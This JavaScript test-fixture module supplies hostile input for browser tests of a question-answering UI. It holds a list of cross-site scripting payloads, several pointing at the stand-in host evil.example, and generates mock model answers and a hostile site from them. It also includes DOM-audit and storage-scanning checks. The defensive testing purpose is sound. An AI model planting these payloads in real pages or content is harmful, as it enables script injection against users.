// Hostile input for the browser suites (tests/demo, tests/site): a corpus of markup, script-URL
// and Unicode payloads, a seeded generator that mixes them into model answers and documents, and
// checks that run in the page after rendering (DOM structure, storage contents) or watch it
// (dialogs, console, CSP violations). Everything is deterministic for a given seed; the seed is
// printed in every failure message (set DOCENT_SEED to replay another one).

/** The seed of every generator here; DOCENT_SEED (a decimal or 0x number) overrides it. */
export const SEED = Number(process.env.DOCENT_SEED ?? 0x5eed_d0c);
if (!Number.isSafeInteger(SEED)) throw new Error(`DOCENT_SEED: expected an integer, found ${process.env.DOCENT_SEED}`);

/** Mulberry32: a small seeded PRNG, uniform in [0, 1). */
export function rng(seed = SEED) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/**
 * Strings that would run script, load a resource, navigate or spoof if they ever reached the DOM
 * as HTML or became a link. Each one that executes sets `window.pwned` or opens a dialog.
 */
export const PAYLOADS = Object.freeze([
  '<img src=x onerror="window.pwned=1">',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<script>window.pwned=1</script>',
  '<script src="//evil.example/x.js"></script>',
  '<svg onload="window.pwned=1"><circle r="1"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe src="javascript:window.pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:window.pwned=1"></object>',
  '<embed src="javascript:window.pwned=1">',
  '<a href="javascript:window.pwned=1">click me</a>',
  '<a href="&#x6A;avascript&colon;window.pwned=1">entity link</a>',
  '<form action="javascript:window.pwned=1"><button>go</button></form>',
  '<input autofocus onfocus="window.pwned=1">',
  '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
  '<body onload="window.pwned=1">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>*{background:url(//evil.example/x.png)}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
  '"><img src=x onerror=window.pwned=1>',
  "'><svg/onload=window.pwned=1>",
  '</textarea></title></style></script><img src=x onerror=window.pwned=1>',
  '<!--<img src="--><img src=x onerror=window.pwned=1>',
  '<![CDATA[<script>window.pwned=1</script>]]>',
  '[1](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:alert(1))',
  '[x](  java\tscript:window.pwned=1 )',
  '[x](&#106;avascript:window.pwned=1)',
  '[x](//evil.example/steal)',
  '[x](https://evil.example/phish "title")',
  '![img](x" onerror="window.pwned=1)',
  '<https://evil.example/autolink>',
  'javascript:window.pwned=1',
  ' \u0001JaVaScRiPt:alert(1)',
  'data:text/html,<script>window.pwned=1</script>',
  'vbscript:msgbox(1)',
  '&lt;img src=x onerror=window.pwned=1&gt;',
  '&amp;lt;script&amp;gt;window.pwned=1&amp;lt;/script&amp;gt;',
  '&#60;script&#62;window.pwned=1&#60;/script&#62;',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  'zero\u200bwidth\u200c\u200djoin\ufeffers',
  '\u202egnp.exe\u202c and \u2066isolate\u2069',
  '[\u200b1] [1\u200b] [\u202e1]',
  '[0] [01] [99999] [ 1] [1 ]',
  '\u0000nul \u0007bell \u001b[31mansi',
]);

/** A long run of text (50 000 characters) with markup in the middle, for length limits. */
export const LONG = `${'long '.repeat(5_000)}<img src=x onerror="window.pwned=1">${' tail'.repeat(5_000)}`;

/**
 * Deterministic answers made of payloads, ordinary words and citation markers, each with the
 * deltas the mock LLM streams it in (cut at random code points, so markup is split across
 * deltas). The first answer contains every payload once; the rest are random mixes; the last one
 * includes LONG.
 * @param {{count?: number, perAnswer?: number, seed?: number}} [options] count 1..=50 (default 6)
 * @returns {Array<{text: string, deltas: string[]}>}
 */
export function hostileAnswers({ count = 6, perAnswer = 8, seed = SEED } = {}) {
  if (!(count >= 1 && count <= 50)) throw new Error(`count: expected 1..=50, found ${count}`);
  const random = rng(seed);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const glue = [' ', '\n', ' [1] ', ' [2]', '', ' and ', '. ', ' [3]. '];
  const answers = [];
  for (let i = 0; i < count; i++) {
    const parts = i === 0 ? [...PAYLOADS] : Array.from({ length: perAnswer }, () => pick(PAYLOADS));
    if (i === count - 1 && count > 1) parts.push(LONG);
    let text = 'Answer [1]: ';
    for (const p of parts) text += p + pick(glue);
    answers.push({ text, deltas: split(text, random, 40) });
  }
  return answers;
}

/** `text` cut at random code-point boundaries into at most `pieces` non-empty deltas. */
function split(text, random, pieces) {
  const points = Array.from(text);
  const cuts = new Set();
  while (cuts.size < Math.min(pieces - 1, points.length - 1)) cuts.add(1 + Math.floor(random() * (points.length - 1)));
  const sorted = [0, ...[...cuts].sort((a, b) => a - b), points.length];
  const out = [];
  for (let i = 1; i < sorted.length; i++) out.push(points.slice(sorted[i - 1], sorted[i]).join(''));
  return out;
}

/** `text` with &, <, > and " escaped, for putting payloads into HTML as text. */
export function escapeHtml(text) {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** The word every hostile document shares, so one question retrieves them all. */
export const TOPIC = 'zebra ledger';
/** A question that retrieves the hostile documents. */
export const TOPIC_QUESTION = 'How is the zebra ledger reconciled at the end of the month?';

/**
 * Files of a small hostile site (name → content): payloads in titles, headings (escaped, so they
 * are heading text, and raw), heading ids, body text, Markdown links and a `<script>` with
 * `</script>` tricks; plus pages whose file names (and so, without --base-url, whose urls) are
 * `javascript:` URLs, cased and prefixed with whitespace. Every page is about the TOPIC and
 * differs in content (the indexer de-duplicates identical pages).
 * @returns {Record<string, string>}
 */
export function hostileSite(seed = SEED) {
  const random = rng(seed ^ 0x51e);
  const pick = () => PAYLOADS[Math.floor(random() * PAYLOADS.length)];
  const files = {};
  const sentence = (i) =>
    `The ${TOPIC} is reconciled at the end of each month by clerk ${i}, who compares every stripe entry with the bank statement.`;
  const page = (i, title, heading, id, body) => `<!doctype html>
<html><head><meta charset="utf-8"><title>${title}</title></head>
<body><main>
<h1 id="top">${escapeHtml(`Zebra ledger ${i}`)}</h1>
<h2 id="${escapeHtml(id)}">${heading}</h2>
<p>${sentence(i)} ${body}</p>
<p>${escapeHtml(pick())} Monthly reconciliation of the ${TOPIC} also checks ${escapeHtml(pick())} the totals.</p>
<script>window.pwned = 1; document.write("</scr" + "ipt><img src=x onerror=alert(1)>")</script>
<img src="x" onerror="window.pwned=1" alt="${escapeHtml(pick())}">
</main></body></html>
`;
  files['markup.html'] = page(1, escapeHtml(`${TOPIC} <img src=x onerror="window.pwned=1"> title`),
    escapeHtml('<script>window.pwned=1</script> reconciliation'), 'x" onmouseover="window.pwned=1',
    escapeHtml(PAYLOADS.join(' ')));
  files['raw.html'] = page(2, `${TOPIC} raw <b>bold</b> title`,
    '<img src=x onerror="window.pwned=1"><svg onload="window.pwned=1"></svg> Reconciling the stripes',
    "javascript:window.pwned=1", '<a href="javascript:window.pwned=1">a link in the body</a> [1](javascript:alert(1))');
  files['unicode.html'] = page(3, `${TOPIC} \u202eredro\u202c title\u200b`, 'Month\u200b-end \u2066check\u2069',
    'month\u200bend', `${escapeHtml(LONG.slice(0, 4000))} \u202egnp.exe`);
  files['javascript:alert(1).html'] = page(4, `${TOPIC} script url`, 'Clerk four', 'four', 'This page is named like a script URL.');
  files[' JaVaScRiPt:alert(2).html'] = page(5, `${TOPIC} cased`, 'Clerk five', 'five', 'This page name starts with a space.');
  files['java\tscript:alert(3).html'] = page(6, `${TOPIC} tab`, 'Clerk six', 'six', 'This page name hides a tab.');
  files['notes.md'] = [
    `# ${TOPIC} notes <img src=x onerror="window.pwned=1">`,
    '',
    `## Reconciliation [1](javascript:alert(1)) <svg onload=alert(1)>`,
    '',
    `${sentence(7)} See [the bank](javascript:window.pwned=1), [x](//evil.example/steal) and`,
    `![img](x" onerror="window.pwned=1) and <script>window.pwned=1</script> and &lt;b&gt;.`,
    '',
  ].join('\n');
  files['plain.txt'] = `${sentence(8)}\n<iframe src="javascript:window.pwned=1"></iframe> javascript:alert(1)\n`;
  return files;
}

/**
 * Watches a page for what hostile input must never cause: dialogs (dismissed and recorded),
 * page errors, CSP violations (a `securitypolicyviolation` listener installed before any page
 * script, in every frame) and console messages (all types, the page's and its workers').
 * Call before navigating.
 * @returns {Promise<{console: Array<{type: string, text: string, url: string}>, errors: string[],
 *   dialogs: string[], csp: object[], requests: string[]}>}
 */
export async function watch(page) {
  const seen = { console: [], errors: [], dialogs: [], csp: [], requests: [] };
  page.on('console', (m) => seen.console.push({ type: m.type(), text: m.text(), url: m.location().url }));
  page.on('pageerror', (e) => seen.errors.push(String(e.stack ?? e)));
  page.on('dialog', (d) => {
    seen.dialogs.push(`${d.type()}: ${d.message()}`);
    d.dismiss().catch(() => {});
  });
  page.on('request', (r) => seen.requests.push(r.url()));
  await page.exposeBinding('__docentCspViolation', (_source, v) => seen.csp.push(v));
  await page.addInitScript(() => {
    const report = (e) => {
      // Sent as plain data: the directive, the blocked URL and where.
      window.__docentCspViolation?.({
        directive: e.violatedDirective,
        blocked: e.blockedURI,
        source: e.sourceFile,
        line: e.lineNumber,
        sample: e.sample,
      });
    };
    document.addEventListener('securitypolicyviolation', report, true);
  });
  return seen;
}

/**
 * Runs in the page: every problem hostile text could have caused in the DOM, as strings ([] when
 * none). Walks the document and every open shadow root:
 * - no `on*` attribute anywhere;
 * - inside `ui` (the page's own links are the site's business), every link-like attribute
 *   (a/area href, form action, iframe/embed/object src/data, base href) resolves to http(s) on
 *   one of `origins`;
 * - the number of script, img, svg, iframe, object, embed, frame, base, meta, link, style, math,
 *   video and audio elements is what it was at `baseline` (what `auditDom` returned as
 *   `counts` before anything was asked);
 * - inside `ui` (a selector of the custom element whose shadow root is the UI, or null for the
 *   document): `answer` holds only text and `.cite` elements whose only child is the text `[n]`;
 *   each source item holds only the expected elements with text only; `textOnly` containers
 *   (selectors; every match) have no element children.
 * @param {{ui: string | null, origins: string[], baseline?: Record<string, number>,
 *   sourceParts: string[], textOnly: string[]}} options
 * @returns {{problems: string[], counts: Record<string, number>, pwned: unknown}}
 */
export function auditDom({ ui, origins, baseline, sourceParts, textOnly }) {
  const problems = [];
  const roots = [];
  const collect = (root) => {
    roots.push(root);
    for (const el of root.querySelectorAll('*')) if (el.shadowRoot) collect(el.shadowRoot);
  };
  collect(document);
  const TAGS = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'frame', 'base', 'meta', 'link', 'style', 'math', 'video', 'audio'];
  const counts = Object.fromEntries(TAGS.map((t) => [t, 0]));
  const linkAttrs = { A: 'href', AREA: 'href', FORM: 'action', IFRAME: 'src', EMBED: 'src', OBJECT: 'data', BASE: 'href' };
  const uiRoot = ui ? document.querySelector(ui)?.shadowRoot : document;
  const describe = (el) => `<${el.tagName.toLowerCase()}${el.getAttribute('class') ? ` class="${el.getAttribute('class')}"` : ''}>`;
  for (const root of roots) {
    for (const el of root.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      if (tag in counts) counts[tag] += 1;
      for (const a of el.attributes) {
        if (/^on/i.test(a.name)) problems.push(`${describe(el)} has an event handler attribute ${a.name}="${a.value.slice(0, 60)}"`);
      }
      const attr = linkAttrs[el.tagName];
      if (attr && el.hasAttribute(attr) && (ui === null || root === uiRoot)) {
        const raw = el.getAttribute(attr);
        let u;
        try {
          u = new URL(raw, document.baseURI);
        } catch {
          u = null;
        }
        if (!u || !/^https?:$/.test(u.protocol) || !origins.includes(u.origin)) {
          problems.push(`${describe(el)} ${attr}="${raw.slice(0, 80)}" is not http(s) on ${origins.join(' or ')}`);
        }
      }
    }
  }
  if (baseline) {
    for (const t of TAGS) if (counts[t] !== baseline[t]) problems.push(`${counts[t] - baseline[t]} new <${t}> element(s) in the page`);
  }
  if (!uiRoot) return { problems: [...problems, `no UI root ${ui}`], counts, pwned: window.pwned };
  const q = (s) => uiRoot.querySelector(s);
  const answer = q('[data-testid="answer"]');
  for (const node of answer.childNodes) {
    if (node.nodeType === Node.TEXT_NODE) continue;
    const el = node;
    const ok = el.nodeType === Node.ELEMENT_NODE && (el.tagName === 'A' || el.tagName === 'SPAN') && el.classList.contains('cite') &&
      el.childNodes.length === 1 && el.firstChild.nodeType === Node.TEXT_NODE && /^\[\d+\]$/.test(el.textContent);
    if (!ok) problems.push(`answer holds ${el.nodeType === Node.ELEMENT_NODE ? describe(el) : `node type ${el.nodeType}`} "${String(el.textContent).slice(0, 60)}"`);
  }
  for (const li of q('[data-testid="sources"]').children) {
    if (li.tagName !== 'LI') problems.push(`sources holds ${describe(li)}`);
    for (const child of li.children) {
      const name = `${child.tagName}${child.className ? `.${child.className}` : ''}`;
      if (!sourceParts.includes(name)) problems.push(`a source item holds ${name}; expected ${sourceParts.join(', ')}`);
      if (child.children.length) problems.push(`${name} in a source item has element children`);
    }
  }
  for (const sel of textOnly) {
    for (const el of uiRoot.querySelectorAll(sel)) {
      if (el.children.length) problems.push(`${sel} has element children: ${[...el.children].map(describe).join(' ')}`);
    }
  }
  return { problems, counts, pwned: window.pwned };
}

/**
 * Runs in the page: where `secret` occurs in the origin's storage, as `area[key]` strings.
 * Reads localStorage, sessionStorage, cookies, every IndexedDB database (every record of every
 * object store, binary values decoded as Latin-1) and every Cache Storage entry (request URL,
 * headers and body). Also returns an inventory of what it read, so a caller can check that the
 * scan was not empty.
 * @param {string} secret
 * @returns {Promise<{hits: string[], inventory: {local: number, session: number, idb: number, cached: number, cachedBytes: number}}>}
 */
export async function findInStorage(secret) {
  const hits = [];
  const inventory = { local: 0, session: 0, idb: 0, cached: 0, cachedBytes: 0 };
  const latin1 = new TextDecoder('latin1');
  const text = (v) => {
    if (v instanceof ArrayBuffer) return latin1.decode(v);
    if (ArrayBuffer.isView(v)) return latin1.decode(new Uint8Array(v.buffer, v.byteOffset, v.byteLength));
    return JSON.stringify(v, (_k, x) => (x instanceof ArrayBuffer || ArrayBuffer.isView(x) ? text(x) : x)) ?? String(v);
  };
  for (const [area, storage] of [['localStorage', localStorage], ['sessionStorage', sessionStorage]]) {
    for (let i = 0; i < storage.length; i++) {
      const k = storage.key(i);
      inventory[area === 'localStorage' ? 'local' : 'session'] += 1;
      if (k.includes(secret) || storage.getItem(k).includes(secret)) hits.push(`${area}[${k}]`);
    }
  }
  if (document.cookie.includes(secret)) hits.push('cookie');
  for (const { name } of await indexedDB.databases()) {
    const db = await new Promise((resolve, reject) => {
      const r = indexedDB.open(name);
      r.onsuccess = () => resolve(r.result);
      r.onerror = () => reject(r.error);
    });
    try {
      for (const store of db.objectStoreNames) {
        const [keys, values] = await new Promise((resolve, reject) => {
          const tx = db.transaction(store, 'readonly');
          const s = tx.objectStore(store);
          const k = s.getAllKeys();
          const v = s.getAll();
          tx.oncomplete = () => resolve([k.result, v.result]);
          tx.onerror = () => reject(tx.error);
        });
        values.forEach((v, i) => {
          inventory.idb += 1;
          if (text(keys[i]).includes(secret) || text(v).includes(secret)) hits.push(`indexedDB[${name}/${store}/${text(keys[i])}]`);
        });
      }
    } finally {
      db.close();
    }
  }
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const req of await cache.keys()) {
      const res = await cache.match(req);
      const body = await res.arrayBuffer();
      inventory.cached += 1;
      inventory.cachedBytes += body.byteLength;
      const headers = JSON.stringify([...req.headers, ...res.headers]);
      if (req.url.includes(secret) || headers.includes(secret) || latin1.decode(body).includes(secret)) hits.push(`caches[${name}/${req.url}]`);
    }
  }
  return { hits, inventory };
}
